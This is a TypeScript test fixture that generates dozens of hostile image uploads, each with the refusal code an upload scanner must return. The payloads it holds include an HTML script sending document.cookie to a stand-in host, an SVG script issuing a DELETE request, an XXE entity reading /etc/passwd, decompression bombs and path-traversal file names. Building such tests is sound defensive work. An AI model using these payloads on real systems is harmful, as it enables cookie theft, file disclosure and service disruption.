// Hostile uploads made in memory, each with the refusal code lib/scans must give it. Shared by the unit test
// of processScan and the HTTP-level upload test.
import { promisify } from "node:util";
import { crc32, deflate } from "node:zlib";
import sharp from "sharp";
import type { ScanRejectedCode } from "@/lib/scans";
import { seededNoisePng } from "./scan-images";

export interface HostileFile {
  /** What the file tries. */
  label: string;
  /** Name the upload claims (may itself be the attack). */
  name: string;
  /** Content type a browser or script would claim. */
  claimedType: string;
  bytes: Buffer;
  expected: ScanRejectedCode;
}

/** Limits the expectations are made for; `oversize` is built from maxBytes. */
export interface HostileLimits {
  maxBytes: number;
  maxPixels: number;
}

export const hostileLimits: HostileLimits = { maxBytes: 8 * 1024 * 1024, maxPixels: 40_000_000 };

const deflateAsync = promisify(deflate);

function pngChunk(type: string, data: Uint8Array): Buffer {
  const out = Buffer.alloc(12 + data.length);
  out.writeUInt32BE(data.length, 0);
  out.write(type, 4, "latin1");
  out.set(data, 8);
  out.writeUInt32BE(crc32(out.subarray(4, 8 + data.length)), 8 + data.length);
  return out;
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(widthPx: number, heightPx: number, colourType = 0): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(widthPx, 0);
  data.writeUInt32BE(heightPx, 4);
  data[8] = 8;
  data[9] = colourType;
  return pngChunk("IHDR", data);
}

/** A PNG whose header declares width × height grey pixels, with `rows` rows of real (zero) data behind it. */
async function declaredPng(widthPx: number, heightPx: number, rows: number): Promise<Buffer> {
  // Each row: one filter byte and widthPx samples; the same zero row over and over deflates to almost nothing.
  const row = Buffer.alloc(widthPx + 1);
  const raw = Buffer.concat(Array.from({ length: rows }, () => row));
  return Buffer.concat([PNG_SIGNATURE, ihdr(widthPx, heightPx), pngChunk("IDAT", await deflateAsync(raw, { level: 9 })), pngChunk("IEND", Buffer.alloc(0))]);
}

/** Walks a PNG's chunks: [type, start, end] with end after the CRC. */
function pngChunks(png: Buffer): Array<[string, number, number]> {
  const out: Array<[string, number, number]> = [];
  let pos = 8;
  while (pos < png.length) {
    const length = png.readUInt32BE(pos);
    const type = png.toString("latin1", pos + 4, pos + 8);
    out.push([type, pos, pos + 12 + length]);
    pos += 12 + length;
  }
  return out;
}

function withRecomputedCrc(png: Buffer, start: number, end: number): void {
  png.writeUInt32BE(crc32(png.subarray(start + 4, end - 4)), end - 4);
}

/** JPEG with its first SOF's height and width replaced. */
function patchJpegSize(jpeg: Buffer, widthPx: number, heightPx: number): Buffer {
  const out = Buffer.from(jpeg);
  let pos = 2;
  while (pos < out.length) {
    const marker = out[pos + 1];
    const length = out.readUInt16BE(pos + 2);
    if (marker >= 0xc0 && marker <= 0xc3) {
      out.writeUInt16BE(heightPx, pos + 5);
      out.writeUInt16BE(widthPx, pos + 7);
      return out;
    }
    pos += 2 + length;
  }
  throw new Error("no SOF in the test JPEG");
}

/** Little-endian TIFF with its first IFD's ImageWidth and ImageLength set to LONG values. */
function patchTiffSize(tiff: Buffer, widthPx: number, heightPx: number): Buffer {
  const out = Buffer.from(tiff);
  const ifd = out.readUInt32LE(4);
  const count = out.readUInt16LE(ifd);
  for (let k = 0; k < count; k++) {
    const entry = ifd + 2 + 12 * k;
    const tag = out.readUInt16LE(entry);
    if (tag === 256 || tag === 257) {
      out.writeUInt16LE(4, entry + 2);
      out.writeUInt32LE(1, entry + 4);
      out.writeUInt32LE(tag === 256 ? widthPx : heightPx, entry + 8);
    }
  }
  return out;
}

/** Simple-format lossy WebP with the VP8 frame header's 14-bit width and height replaced. */
function patchWebpSize(webp: Buffer, widthPx: number, heightPx: number): Buffer {
  const out = Buffer.from(webp);
  if (out.toString("latin1", 12, 16) !== "VP8 ") throw new Error("expected a simple lossy WebP");
  // Chunk data starts at 20: 3-byte frame tag, start code 9D 01 2A, then width and height (LE, 14 bits + 2 scale bits).
  if (out[23] !== 0x9d || out[24] !== 0x01 || out[25] !== 0x2a) throw new Error("no VP8 start code");
  out.writeUInt16LE(widthPx & 0x3fff, 26);
  out.writeUInt16LE(heightPx & 0x3fff, 28);
  return out;
}

function bmp(widthPx: number, heightPx: number): Buffer {
  const rowBytes = Math.ceil((widthPx * 3) / 4) * 4;
  const size = 54 + rowBytes * heightPx;
  const out = Buffer.alloc(size, 0x80);
  out.write("BM", 0, "latin1");
  out.writeUInt32LE(size, 2);
  out.writeUInt32LE(0, 6);
  out.writeUInt32LE(54, 10);
  out.writeUInt32LE(40, 14);
  out.writeInt32LE(widthPx, 18);
  out.writeInt32LE(heightPx, 22);
  out.writeUInt16LE(1, 26);
  out.writeUInt16LE(24, 28);
  out.writeUInt32LE(0, 30);
  out.writeUInt32LE(rowBytes * heightPx, 34);
  return out;
}

function ico(): Buffer {
  const header = Buffer.from([0, 0, 1, 0, 1, 0]);
  const entry = Buffer.alloc(16);
  entry[0] = 16;
  entry[1] = 16;
  entry.writeUInt16LE(1, 4);
  entry.writeUInt16LE(32, 6);
  entry.writeUInt32LE(40, 8);
  entry.writeUInt32LE(22, 12);
  return Buffer.concat([header, entry, Buffer.alloc(40)]);
}

const utf8 = (text: string) => Buffer.from(text, "utf8");

const SVG_WITH_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>fetch('/api/v1/stamps',{method:'DELETE'})</script><rect width="400" height="400" fill="#000"/></svg>`;

/**
 * At least 30 hostile uploads: wrong magic bytes behind image names, markup (SVG with script, HTML, XML with an
 * external entity), image types that are not accepted, truncated and corrupt PNG/JPEG/WebP/TIFF files, pixel
 * floods (declared sizes far above the limit, and a real compressed bomb), polyglots with a payload after the
 * image, zero bytes, an oversize file, and file names that try path traversal or hide characters.
 */
export async function hostileFiles(limits: HostileLimits = hostileLimits): Promise<HostileFile[]> {
  // Seeded noise (not sharp's random noise), so every run builds byte-identical files and each is refused the same way.
  const rendered = await seededNoisePng(320, 240, { mean: 140, sigma: 30 });
  const source = sharp(rendered);
  const png = await source.clone().png().toBuffer();
  const jpeg = await source.clone().jpeg({ quality: 85 }).toBuffer();
  const webp = await source.clone().webp({ quality: 80 }).toBuffer();
  const tiff = await source.clone().tiff({ compression: "lzw" }).toBuffer();
  const gif = await source.clone().gif().toBuffer();
  const avif = await source.clone().resize(64, 48).avif({ quality: 50 }).toBuffer();
  const tinyPng = await source.clone().resize(8, 8).png().toBuffer();
  const cut = (b: Buffer, share: number) => Buffer.from(b.subarray(0, Math.floor(b.length * share)));

  const chunks = pngChunks(png);
  const [, idatStart, idatEnd] = chunks.find(([type]) => type === "IDAT")!;

  const badCrc = Buffer.from(png);
  badCrc[29] ^= 0xff; // last byte of the IHDR CRC

  const badIdat = Buffer.from(png);
  for (let i = idatStart + 8 + 40; i < idatStart + 8 + 400; i++) badIdat[i] ^= 0x5a;
  withRecomputedCrc(badIdat, idatStart, idatEnd);

  const zeroWidth = Buffer.from(png);
  zeroWidth.writeUInt32BE(0, 16);
  withRecomputedCrc(zeroWidth, 8, 33);

  const noIhdr = Buffer.concat([PNG_SIGNATURE, png.subarray(idatStart, idatEnd), pngChunk("IEND", Buffer.alloc(0))]);

  const badHuffman = Buffer.from(jpeg);
  for (let i = Math.floor(jpeg.length * 0.3); i < Math.floor(jpeg.length * 0.7); i += 7) if (badHuffman[i] !== 0xff) badHuffman[i] = 0xff;

  const riffLies = Buffer.from(webp);
  riffLies.writeUInt32LE(webp.length * 4, 4);

  const garbageWebp = Buffer.concat([Buffer.from("RIFF"), Buffer.alloc(4), Buffer.from("WEBPVP8 "), Buffer.alloc(4), utf8("not a frame at all, just words".repeat(8))]);
  garbageWebp.writeUInt32LE(garbageWebp.length - 8, 4);
  garbageWebp.writeUInt32LE(garbageWebp.length - 20, 16);

  const badIfd = Buffer.from(tiff);
  badIfd.writeUInt32LE(tiff.length + 4096, 4);

  const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26), utf8("payload.html<script>alert(1)</script>")]);
  const oversize = Buffer.alloc(limits.maxBytes + 1);
  PNG_SIGNATURE.copy(oversize);

  const files: HostileFile[] = [
    { label: "zero bytes", name: "empty.png", claimedType: "image/png", bytes: Buffer.alloc(0), expected: "empty" },
    { label: "one byte over the size limit", name: "huge.png", claimedType: "image/png", bytes: oversize, expected: "tooLarge" },
    { label: "plain text behind a .png name", name: "notes.png", claimedType: "image/png", bytes: utf8("this is not a picture, just some words\n"), expected: "notAnImage" },
    { label: "ELF program behind a .png name", name: "program.png", claimedType: "image/png", bytes: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(120)]), expected: "notAnImage" },
    { label: "Windows program behind a .jpg name", name: "setup.jpg", claimedType: "image/jpeg", bytes: Buffer.concat([utf8("MZ"), Buffer.alloc(58), utf8("PE\0\0"), Buffer.alloc(64)]), expected: "notAnImage" },
    { label: "ZIP archive behind a .png name", name: "archive.png", claimedType: "image/png", bytes: zip, expected: "notAnImage" },
    { label: "SVG with a script", name: "drawing.svg", claimedType: "image/svg+xml", bytes: utf8(SVG_WITH_SCRIPT), expected: "svgRefused" },
    {
      label: "SVG with byte-order mark, XML declaration and whitespace, named .png",
      name: "drawing.png",
      claimedType: "image/png",
      bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(`\n  <?xml version="1.0"?>\n<!-- scan -->\n${SVG_WITH_SCRIPT}`)]),
      expected: "svgRefused",
    },
    { label: "SVG in UTF-16", name: "wide.png", claimedType: "image/png", bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(SVG_WITH_SCRIPT, "utf16le")]), expected: "svgRefused" },
    {
      label: "HTML page with a script, named .jpg",
      name: "page.jpg",
      claimedType: "image/jpeg",
      bytes: utf8("<!DOCTYPE html><html><body><script>document.location='//elsewhere.test/'+document.cookie</script></body></html>"),
      expected: "markupRefused",
    },
    {
      label: "XML with an external entity",
      name: "entity.png",
      claimedType: "image/png",
      bytes: utf8(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`),
      expected: "markupRefused",
    },
    { label: "HTML comment in front of PNG bytes", name: "mixed.png", claimedType: "image/png", bytes: Buffer.concat([utf8("<!-- <script>alert(1)</script> -->"), png]), expected: "markupRefused" },
    { label: "GIF", name: "animation.gif", claimedType: "image/gif", bytes: gif, expected: "unsupportedType" },
    { label: "BMP", name: "bitmap.bmp", claimedType: "image/bmp", bytes: bmp(100, 80), expected: "unsupportedType" },
    { label: "PDF", name: "scan.pdf", claimedType: "application/pdf", bytes: utf8("%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"), expected: "unsupportedType" },
    { label: "AVIF", name: "photo.avif", claimedType: "image/avif", bytes: avif, expected: "unsupportedType" },
    { label: "HEIC header", name: "photo.heic", claimedType: "image/heic", bytes: Buffer.concat([Buffer.from([0, 0, 0, 24]), utf8("ftypheic"), Buffer.alloc(4), utf8("mif1heic"), Buffer.alloc(64)]), expected: "unsupportedType" },
    { label: "ICO", name: "favicon.ico", claimedType: "image/x-icon", bytes: ico(), expected: "unsupportedType" },
    { label: "PNG cut at 60 %", name: "cut.png", claimedType: "image/png", bytes: cut(png, 0.6), expected: "truncated" },
    { label: "PNG signature alone", name: "signature.png", claimedType: "image/png", bytes: Buffer.from(PNG_SIGNATURE), expected: "truncated" },
    { label: "PNG with a wrong header checksum", name: "crc.png", claimedType: "image/png", bytes: badCrc, expected: "corrupt" },
    { label: "PNG with scrambled compressed data (checksums fixed)", name: "scrambled.png", claimedType: "image/png", bytes: badIdat, expected: "corrupt" },
    { label: "PNG that declares zero width", name: "zero-width.png", claimedType: "image/png", bytes: zeroWidth, expected: "corrupt" },
    { label: "PNG without its header chunk", name: "headless.png", claimedType: "image/png", bytes: noIhdr, expected: "corrupt" },
    { label: "PNG signature in front of JPEG data", name: "chimera.png", claimedType: "image/png", bytes: Buffer.concat([PNG_SIGNATURE, jpeg]), expected: "corrupt" },
    { label: "pixel flood: PNG declaring 100 000 × 100 000", name: "flood.png", claimedType: "image/png", bytes: await declaredPng(100_000, 100_000, 4), expected: "tooManyPixels" },
    { label: "decompression bomb: 9000 × 9000 PNG of zeros", name: "bomb.png", claimedType: "image/png", bytes: await declaredPng(9000, 9000, 9000), expected: "tooManyPixels" },
    { label: "JPEG cut at 60 %", name: "cut.jpg", claimedType: "image/jpeg", bytes: cut(jpeg, 0.6), expected: "truncated" },
    { label: "JPEG start marker and garbage", name: "garbage.jpg", claimedType: "image/jpeg", bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), utf8("garbage".repeat(40))]), expected: "corrupt" },
    { label: "JPEG with scrambled entropy-coded data", name: "scrambled.jpg", claimedType: "image/jpeg", bytes: badHuffman, expected: "corrupt" },
    { label: "pixel flood: JPEG declaring 65 500 × 65 500", name: "flood.jpg", claimedType: "image/jpeg", bytes: patchJpegSize(jpeg, 65_500, 65_500), expected: "tooManyPixels" },
    { label: "WebP cut at 60 %", name: "cut.webp", claimedType: "image/webp", bytes: cut(webp, 0.6), expected: "truncated" },
    { label: "WebP whose RIFF size claims more than the file", name: "riff.webp", claimedType: "image/webp", bytes: riffLies, expected: "truncated" },
    { label: "WebP container around garbage", name: "garbage.webp", claimedType: "image/webp", bytes: garbageWebp, expected: "corrupt" },
    { label: "pixel flood: WebP declaring 16 383 × 16 383", name: "flood.webp", claimedType: "image/webp", bytes: patchWebpSize(webp, 16_383, 16_383), expected: "tooManyPixels" },
    { label: "TIFF cut at 60 %", name: "cut.tif", claimedType: "image/tiff", bytes: cut(tiff, 0.6), expected: "corrupt" },
    { label: "TIFF whose directory lies past the end", name: "ifd.tif", claimedType: "image/tiff", bytes: badIfd, expected: "corrupt" },
    { label: "pixel flood: TIFF declaring 100 000 × 100 000", name: "flood.tif", claimedType: "image/tiff", bytes: patchTiffSize(tiff, 100_000, 100_000), expected: "tooManyPixels" },
    { label: "polyglot: PNG with an HTML page after its end", name: "polyglot.png", claimedType: "image/png", bytes: Buffer.concat([png, utf8("<html><script>alert(1)</script></html>")]), expected: "trailingData" },
    { label: "polyglot: JPEG with a ZIP archive after its end", name: "polyglot.jpg", claimedType: "image/jpeg", bytes: Buffer.concat([jpeg, zip]), expected: "trailingData" },
    { label: "polyglot: WebP with a script after its RIFF container", name: "polyglot.webp", claimedType: "image/webp", bytes: Buffer.concat([webp, utf8("/*/alert(1)/*/")]), expected: "trailingData" },
    { label: "an 8 × 8 picture", name: "tiny.png", claimedType: "image/png", bytes: tinyPng, expected: "tooSmall" },
    { label: "path traversal in the name", name: "../../etc/passwd.png", claimedType: "image/png", bytes: png, expected: "badFileName" },
    { label: "Windows path traversal in the name", name: "..\\..\\windows\\win.ini.png", claimedType: "image/png", bytes: png, expected: "badFileName" },
    { label: "NUL byte in the name", name: "scan.png\u0000.html", claimedType: "image/png", bytes: png, expected: "badFileName" },
    { label: "right-to-left override in the name", name: "scan\u202egnp.exe", claimedType: "image/png", bytes: png, expected: "badFileName" },
    { label: "a 300-character name", name: `${"a".repeat(296)}.png`, claimedType: "image/png", bytes: png, expected: "badFileName" },
  ];
  return files;
}
